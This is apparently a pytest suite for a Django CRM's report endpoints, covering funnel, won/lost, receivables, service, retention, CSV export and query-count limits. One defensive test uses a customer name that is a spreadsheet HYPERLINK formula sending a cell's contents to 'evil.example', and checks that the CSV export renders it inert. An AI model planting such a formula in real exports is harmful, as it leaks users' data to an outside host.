"""Reports: the figures, who sees what, CSV export, and a bounded number of queries over many rows."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
from decimal import Decimal

import pytest
from django.db.models import F
from django.utils import timezone

from backend.audit.models import AuditEvent
from backend.crm import reports
from backend.crm.models import (
    Customer,
    CustomerStatus,
    DispatchState,
    Invoice,
    Opportunity,
    Order,
    OrderLine,
    OrderStatus,
    Payment,
    Product,
    ServiceRecord,
    Stage,
)
from backend.crm.services import orders as order_services
from tests.crm.factories import CustomerFactory, OpportunityFactory, OrderFactory, ProductFactory, \
    ServiceRecordFactory
from tests.fixtures.clients import api_client

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
NOW = timezone.now()


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    return response.json()["rows"]


# --- (a) funnel --------------------------------------------------------------------------------------


@pytest.fixture
def funnel(people):
    owner, team = people["owner"], people["team"]
    customer = people["customer"]
    other = CustomerFactory(owner=people["outsider"], name="Tianjin Binhai Auto Parts")
    march = timezone.make_aware(dt.datetime(2026, 3, 10, 12))
    april = timezone.make_aware(dt.datetime(2026, 4, 2, 12))
    OpportunityFactory(customer=customer, owner=owner, stage=Stage.PROPOSAL, probability=50,
                       amount=Decimal("100000.00"), created_at=march, expected_close=dt.date(2026, 6, 30))
    OpportunityFactory(customer=customer, owner=owner, stage=Stage.PROPOSAL, probability=50,
                       amount=Decimal("300000.00"), created_at=march, expected_close=dt.date(2026, 5, 31))
    OpportunityFactory(customer=customer, owner=owner, stage=Stage.NEGOTIATION, probability=75,
                       amount=Decimal("200000.01"), created_at=april)
    OpportunityFactory(customer=customer, owner=team, stage=Stage.LEAD, probability=10, amount=Decimal("50000"),
                       created_at=april, currency="USD")
    OpportunityFactory(customer=other, owner=people["outsider"], stage=Stage.PROPOSAL, probability=50,
                       amount=Decimal("999999"), created_at=march)
    return march, april


def test_the_funnel_counts_sums_and_weights_by_rep_month_and_stage(people, funnel):
    # when the owner asks for the funnel
    body = api_client(people["owner"]).get("/api/crm/reports/funnel/").json()

    # then their customer's deals are grouped by rep, month, stage and currency, in decimal strings
    rows = {(r["owner__username"], r["period"], r["stage"], r["currency"]): r for r in body["rows"]}
    assert set(rows) == {("wang.fang", "2026-03", "proposal", "CNY"), ("wang.fang", "2026-04", "negotiation", "CNY"),
                         ("li.lei", "2026-04", "lead", "USD")}
    proposal = rows[("wang.fang", "2026-03", "proposal", "CNY")]
    assert (proposal["count"], proposal["amount"], proposal["weighted_amount"]) == (2, "400000.00", "200000.00")
    assert rows[("wang.fang", "2026-04", "negotiation", "CNY")]["weighted_amount"] == "150000.01"
    # and the summary is per stage and currency, in funnel order
    assert [(s["stage"], s["currency"], s["count"]) for s in body["summary"]] == [
        ("lead", "USD", 1), ("proposal", "CNY", 2), ("negotiation", "CNY", 1)]


def test_the_funnel_period_applies_to_created_at_or_to_expected_close(people, funnel):
    client = api_client(people["admin"])
    april = _rows(client.get("/api/crm/reports/funnel/?from=2026-04-01&to=2026-04-30"))
    closing_in_may = _rows(client.get("/api/crm/reports/funnel/?from=2026-05-01&to=2026-05-31&basis=expected_close"))
    assert sum(r["count"] for r in april) == 2
    assert [(r["stage"], r["amount"], r["period"]) for r in closing_in_may] == [("proposal", "300000.00", "2026-05")]


def test_admin_and_compliance_see_every_deal_an_unrelated_rep_only_their_own(people, funnel):
    total = {who: sum(r["count"] for r in _rows(api_client(people[who]).get("/api/crm/reports/funnel/")))
             for who in ("admin", "compliance", "outsider", "owner")}
    assert total == {"admin": 5, "compliance": 5, "outsider": 1, "owner": 4}


@pytest.mark.parametrize("query,field", [
    ("from=2026-05-01&to=2026-04-01", "to"),
    ("from=yesterday", "from"),
    ("basis=closed", "basis"),
    ("owner=abc", "owner"),
])
def test_bad_report_parameters_are_400_on_the_field(people, query, field):
    for suffix in ("", "&format=csv"):
        response = api_client(people["owner"]).get(f"/api/crm/reports/funnel/?{query}{suffix}")
        assert response.status_code == 400, response.content
        assert field in response.json()["fields"]


# --- (b) won / lost ------------------------------------------------------------------------------------


def test_won_lost_counts_the_lost_rate_and_the_reasons(people):
    # given three won and three lost deals of the owner, and one lost deal of the team member, closed in March
    closed = timezone.make_aware(dt.datetime(2026, 3, 15, 9))
    customer = people["customer"]
    for amount in ("100", "200", "300"):
        OpportunityFactory(customer=customer, owner=people["owner"], stage=Stage.WON, amount=Decimal(amount),
                           closed_at=closed)
    for reason in ("价格太高 Price", "价格太高 Price", "Lost to DMG Mori"):
        OpportunityFactory(customer=customer, owner=people["owner"], stage=Stage.LOST, lost_reason=reason,
                           amount=Decimal("50"), closed_at=closed)
    OpportunityFactory(customer=customer, owner=people["team"], stage=Stage.LOST, lost_reason="", closed_at=closed)
    OpportunityFactory(customer=customer, owner=people["owner"], stage=Stage.WON,
                       closed_at=closed - dt.timedelta(days=60))  # outside the period
    OpportunityFactory(customer=customer, owner=people["owner"], stage=Stage.PROPOSAL)  # still open

    # when the won/lost report for March is read
    body = api_client(people["owner"]).get("/api/crm/reports/won-lost/?from=2026-03-01&to=2026-03-31").json()

    # then per rep: won, lost, the lost rate; overall; and the reasons, most frequent first
    rows = {r["owner__username"]: r for r in body["rows"]}
    assert (rows["wang.fang"]["won"], rows["wang.fang"]["lost"], rows["wang.fang"]["lost_rate"]) == (3, 3, 0.5)
    assert rows["wang.fang"]["won_amount"] == "600.00" and rows["wang.fang"]["lost_amount"] == "150.00"
    assert (rows["li.lei"]["won"], rows["li.lei"]["lost"], rows["li.lei"]["lost_rate"]) == (0, 1, 1.0)
    assert (body["summary"]["won"], body["summary"]["lost"], body["summary"]["lost_rate"]) == (3, 4, 0.5714)
    assert body["summary"]["reasons"] == [{"reason": "价格太高 Price", "count": 2},
                                          {"reason": "(none given)", "count": 1},
                                          {"reason": "Lost to DMG Mori", "count": 1}]


# --- (c) receivables --------------------------------------------------------------------------------------


@pytest.fixture
def book(people):
    """Two customers of the owner and one of the outsider, with invoices and payments."""
    owner = people["owner"]
    product = ProductFactory()
    second = CustomerFactory(owner=owner, name="Ningbo Orient Mould")
    other = CustomerFactory(owner=people["outsider"], name="Dalian Yuanyang Hydraulics")

    def order(customer, actor, total):
        return order_services.order_create(actor=actor, customer=customer,
                                           lines=[{"product": product.pk, "quantity": "1", "unit_price": total}])

    a = order(people["customer"], owner, "1000")
    order_services.invoice_issue(actor=owner, order=a, amount="600", issued_on=TODAY - dt.timedelta(days=45),
                                 due_on=TODAY - dt.timedelta(days=15))
    order_services.payment_record(actor=owner, order=a, amount="200")
    b = order(people["customer"], people["team"], "500")  # booked by the team member
    order_services.invoice_issue(actor=owner, order=b, amount="500", due_on=TODAY + dt.timedelta(days=10))
    c = order(second, owner, "300")
    order_services.payment_record(actor=owner, order=c, amount="300")
    cancelled = order(second, owner, "9999")
    order_services.order_status_change(actor=owner, order=cancelled, status=OrderStatus.CANCELLED)
    order(other, people["outsider"], "777")
    return second, other


def test_receivables_per_customer(people, book):
    second, other = book
    body = api_client(people["owner"]).get("/api/crm/reports/receivables/").json()
    rows = {r["customer__name"]: r for r in body["rows"]}
    assert set(rows) == {people["customer"].name, second.name}  # not the outsider's customer
    first = rows[people["customer"].name]
    assert (first["orders"], first["ordered"], first["paid"], first["invoiced"]) == (2, "1500.00", "200.00",
                                                                                    "1100.00")
    assert (first["outstanding"], first["invoiced_unpaid"], first["overdue"]) == ("1300.00", "900.00", "400.00")
    settled = rows[second.name]  # the cancelled order is left out
    assert (settled["orders"], settled["ordered"], settled["outstanding"], settled["overdue"]) == (
        1, "300.00", "0.00", "0.00")
    assert body["summary"] == [{"currency": "CNY", "orders": 3, "ordered": "1800.00", "paid": "500.00",
                                "invoiced": "1100.00", "outstanding": "1300.00", "invoiced_unpaid": "900.00",
                                "overdue": "400.00"}]


def test_receivables_per_rep_follow_the_orders_owner_and_as_of_moves_the_due_dates(people, book):
    client = api_client(people["admin"])
    rows = {r["owner__username"]: r for r in _rows(client.get("/api/crm/reports/receivables/?by=rep"))}
    later = {r["owner__username"]: r for r in _rows(client.get(
        f"/api/crm/reports/receivables/?by=rep&as_of={TODAY + dt.timedelta(days=30)}"))}
    assert (rows["wang.fang"]["ordered"], rows["li.lei"]["ordered"], rows["zhang.wei"]["ordered"]) == (
        "1300.00", "500.00", "777.00")
    assert rows["li.lei"]["overdue"] == "0.00" and later["li.lei"]["overdue"] == "500.00"


# --- (d) service ------------------------------------------------------------------------------------------


def test_service_statistics(people):
    # given records in every state, with known durations, two complaints and two scores
    engineer, customer = people["engineer"], people["customer"]
    start = NOW - dt.timedelta(days=10)
    common = {"customer": customer, "created_by": people["owner"], "created_at": start}
    ServiceRecordFactory(**common)
    ServiceRecordFactory(**common, type="complaint", engineer=engineer, dispatch_state=DispatchState.DISPATCHED,
                         dispatched_at=start)
    ServiceRecordFactory(**common, engineer=engineer, dispatch_state=DispatchState.CONFIRMED, dispatched_at=start,
                         confirmed_at=start + dt.timedelta(hours=2))
    ServiceRecordFactory(**common, type="complaint", engineer=engineer, dispatch_state=DispatchState.RESOLVED,
                         dispatched_at=start, confirmed_at=start + dt.timedelta(hours=4),
                         resolved_at=start + dt.timedelta(hours=24), satisfaction=3)
    ServiceRecordFactory(**common, engineer=engineer, dispatch_state=DispatchState.CLOSED, dispatched_at=start,
                         confirmed_at=start + dt.timedelta(hours=6), resolved_at=start + dt.timedelta(hours=48),
                         closed_at=start + dt.timedelta(hours=50), satisfaction=5)

    # when service statistics are read
    body = api_client(people["engineer"]).get("/api/crm/reports/service/").json()

    # then open records by state, mean hours to confirm (2, 4, 6) and to resolve (24, 48), complaints, mean score
    summary = body["summary"]
    assert [summary[f"open_{s}"] for s in ("not_dispatched", "dispatched", "confirmed", "resolved")] == [1, 1, 1, 1]
    assert (summary["records"], summary["closed"], summary["complaints"]) == (5, 1, 2)
    assert (summary["mean_hours_to_confirm"], summary["mean_hours_to_resolve"]) == (4.0, 36.0)
    assert (summary["mean_satisfaction"], summary["rated"]) == (4.0, 2)
    per_engineer = {r["engineer__username"]: r for r in body["rows"]}
    assert per_engineer["tom.becker"]["records"] == 4 and per_engineer[None]["records"] == 1


# --- (e) retention -------------------------------------------------------------------------------------------


def test_retention_counts_new_active_retained_and_lost_customers(people):
    # given, for the period March 2026 (previous period: the 31 days before it):
    owner = people["owner"]
    march, february = dt.date(2026, 3, 15), dt.date(2026, 2, 10)
    old = timezone.make_aware(dt.datetime(2025, 6, 1))
    loyal = CustomerFactory(owner=owner, created_at=old)  # ordered in both periods
    OrderFactory(customer=loyal, signed_date=february)
    OrderFactory(customer=loyal, signed_date=march)
    churned = CustomerFactory(owner=owner, created_at=old, status=CustomerStatus.LOST,
                              updated_at=timezone.make_aware(dt.datetime(2026, 3, 20)))  # only in the previous one
    OrderFactory(customer=churned, signed_date=february)
    newcomer = CustomerFactory(owner=owner, created_at=timezone.make_aware(dt.datetime(2026, 3, 5)))
    OrderFactory(customer=newcomer, signed_date=None, created_at=timezone.make_aware(dt.datetime(2026, 3, 6)))
    cancelled = CustomerFactory(owner=owner, created_at=old)  # a cancelled order does not count
    OrderFactory(customer=cancelled, signed_date=march, status=OrderStatus.CANCELLED)
    CustomerFactory(owner=owner, created_at=timezone.make_aware(dt.datetime(2026, 4, 2)))  # after the period
    people["customer"].created_at = old
    people["customer"].save()

    # when retention for March is read
    body = api_client(people["owner"]).get("/api/crm/reports/retention/?from=2026-03-01&to=2026-03-31").json()

    # then
    summary = body["summary"]
    assert body["params"]["previous_from"] == "2026-01-29" and body["params"]["previous_to"] == "2026-02-28"
    assert (summary["customers"], summary["new"], summary["active"], summary["active_before"]) == (5, 1, 2, 2)
    assert (summary["retained"], summary["lost"], summary["marked_lost"], summary["retention_rate"]) == (
        1, 1, 1, 0.5)
    assert [(r["owner__username"], r["customers"], r["retention_rate"]) for r in body["rows"]] == [
        ("wang.fang", 5, 0.5)]


def test_retention_defaults_to_the_last_90_days(people):
    body = api_client(people["owner"]).get("/api/crm/reports/retention/").json()
    assert body["params"]["to"] == TODAY.isoformat()
    assert body["params"]["from"] == (TODAY - dt.timedelta(days=89)).isoformat()


# --- CSV export -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("report", ["funnel", "won-lost", "receivables", "service", "retention"])
def test_every_report_exports_a_streamed_utf8_csv_with_a_bom_and_the_export_is_audited(people, book, funnel,
                                                                                      report):
    # when the owner exports the report as CSV
    response = api_client(people["owner"]).get(f"/api/crm/reports/{report}/?format=csv")

    # then it is a streamed CSV attachment that starts with the UTF-8 byte-order mark
    assert response.status_code == 200
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"] and f"crm-{report}-" in response["Content-Disposition"]
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    json_rows = _rows(api_client(people["owner"]).get(f"/api/crm/reports/{report}/"))
    assert len(table) == 1 + len(json_rows)
    # and the export is in the audit trail with its parameters and row count
    event = AuditEvent.objects.get(event_type="crm.report.exported", actor=people["owner"])
    assert event.detail["report"] == report and event.detail["rows"] == len(json_rows)


def test_the_csv_keeps_chinese_names_and_decimal_money(people, book):
    raw = b"".join(api_client(people["owner"]).get("/api/crm/reports/receivables/?format=csv").streaming_content)
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, rows = table[0], table[1:]
    assert header[:3] == ["customer id", "customer", "customer owner"]
    names = [row[1] for row in rows]
    assert "上海华东精密机械有限公司" in names
    first = dict(zip(header, rows[names.index("上海华东精密机械有限公司")]))
    assert first["ordered"] == "1500.00" and first["overdue"] == "400.00"


def test_a_customer_name_that_looks_like_a_formula_is_inert_in_the_csv(people):
    # given a customer whose name a spreadsheet would run as a formula
    from backend.crm.models import Customer

    product = ProductFactory()
    hostile = CustomerFactory(owner=people["owner"], name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    order = order_services.order_create(actor=people["owner"], customer=hostile,
                                        lines=[{"product": product.pk, "quantity": "1", "unit_price": "100"}])
    order_services.invoice_issue(actor=people["owner"], order=order, amount="100", due_on=TODAY)
    assert Customer.objects.filter(pk=hostile.pk).exists()

    raw = b"".join(api_client(people["owner"]).get("/api/crm/reports/receivables/?format=csv").streaming_content)
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))

    # then the cell is text (a leading apostrophe), and numbers are still numbers
    names = [row[1] for row in table[1:]]
    assert "'" + hostile.name in names and hostile.name not in names
    assert all(not cell.startswith(("=", "+", "@")) for row in table for cell in row)


def test_reports_are_for_staff_only(people, funnel):
    from rest_framework.test import APIClient

    assert APIClient().get("/api/crm/reports/funnel/").status_code in (401, 403)


# --- scale: aggregate queries, not loops ----------------------------------------------------------------------


@pytest.fixture
def big_book(people):
    """~2,000 orders with 10,000 lines, invoices and payments; 3,000 deals; 2,000 service records."""
    rng = random.Random(7)
    owners = [people["owner"], people["team"], people["outsider"]]
    customers = Customer.objects.bulk_create(
        Customer(name=f"批量客户 Bulk {n}", region="华东", owner=owners[n % 3]) for n in range(60))
    products = Product.objects.bulk_create(
        Product(code=f"BULK-{n}", name=f"Part {n}", list_price=Decimal("100")) for n in range(20))
    orders = Order.objects.bulk_create(
        Order(customer=customers[n % 60], owner=customers[n % 60].owner, number=f"SO-BULK-{n:05d}",
              signed_date=TODAY - dt.timedelta(days=n % 365)) for n in range(2_000))
    lines = OrderLine.objects.bulk_create(
        OrderLine(order=orders[n % 2_000], product=products[n % 20], quantity=Decimal("1"),
                  unit_price=Decimal(rng.randint(100, 9_999)), line_total=Decimal(0))
        for n in range(10_000))
    OrderLine.objects.update(line_total=F("unit_price") * F("quantity"))
    invoices = Invoice.objects.bulk_create(
        Invoice(order=order, number=f"INV-BULK-{order.number}", amount=Decimal("50.00"),
                issued_on=TODAY - dt.timedelta(days=60), due_on=TODAY - dt.timedelta(days=n % 60))
        for n, order in enumerate(orders))
    Payment.objects.bulk_create(
        Payment(order=invoice.order, invoice=invoice if n % 2 else None, amount=Decimal("20.00"),
                received_on=TODAY, recorded_by=invoice.order.owner)
        for n, invoice in enumerate(invoices))
    Opportunity.objects.bulk_create(
        Opportunity(customer=customers[(n // 6) % 60], owner=customers[(n // 6) % 60].owner, title=f"Deal {n}",
                    amount=Decimal(rng.randint(1_000, 900_000)), stage=Stage.values[n % 6],
                    probability=(10, 25, 50, 75, 100, 0)[n % 6], lost_reason="Price" if n % 6 == 5 else "",
                    closed_at=NOW if n % 6 >= 4 else None,
                    created_at=NOW - dt.timedelta(days=n % 400)) for n in range(3_000))
    ServiceRecord.objects.bulk_create(
        ServiceRecord(customer=customers[n % 60], title=f"Issue {n}", created_by=people["owner"],
                      dispatch_state=DispatchState.values[n % 5], type=("issue", "complaint")[n % 2],
                      engineer=people["engineer"] if n % 5 else None,
                      dispatched_at=NOW - dt.timedelta(hours=10) if n % 5 else None,
                      confirmed_at=NOW - dt.timedelta(hours=8) if n % 5 >= 2 else None,
                      resolved_at=NOW if n % 5 >= 3 else None, satisfaction=(n % 5) + 1 if n % 5 >= 3 else None,
                      created_at=NOW - dt.timedelta(days=1)) for n in range(2_000))
    return lines


@pytest.mark.slow
def test_reports_over_ten_thousand_rows_take_a_few_aggregate_queries(people, big_book,
                                                                     django_assert_max_num_queries):
    # given 10,000 order lines on 2,000 orders with invoices and payments, 3,000 deals and 2,000 service records
    assert OrderLine.objects.count() == 10_000
    admin = people["admin"]

    # when every report runs for the admin (everything) and for a rep (their customers)
    for user in (admin, people["owner"]):
        for name, build in reports.REPORTS.items():
            # then each is at most three queries, however many rows there are
            with django_assert_max_num_queries(3):
                report = build(user=user)
            assert report.rows, name

    # and the receivables add up to the same totals as the rows they aggregate
    receivables = reports.receivables(user=admin)
    summary = receivables.summary[0]
    assert Decimal(summary["ordered"]) == sum(line.line_total for line in OrderLine.objects.all())
    assert summary["paid"] == Decimal("40000.00") and summary["invoiced"] == Decimal("100000.00")


@pytest.mark.slow
def test_the_report_endpoints_issue_a_fixed_number_of_queries_over_many_rows(people, big_book,
                                                                             django_assert_max_num_queries):
    client = api_client(people["team"])
    for path in ("funnel/", "won-lost/", "receivables/?by=rep", "service/", "retention/"):
        # session, user, at most three report queries
        with django_assert_max_num_queries(5):
            response = client.get(f"/api/crm/reports/{path}")
        assert response.status_code == 200
    # ... plus the audit record: savepoint, chain lock, head, insert, release
    with django_assert_max_num_queries(9):
        response = client.get("/api/crm/reports/receivables/?format=csv")
        b"".join(response.streaming_content)
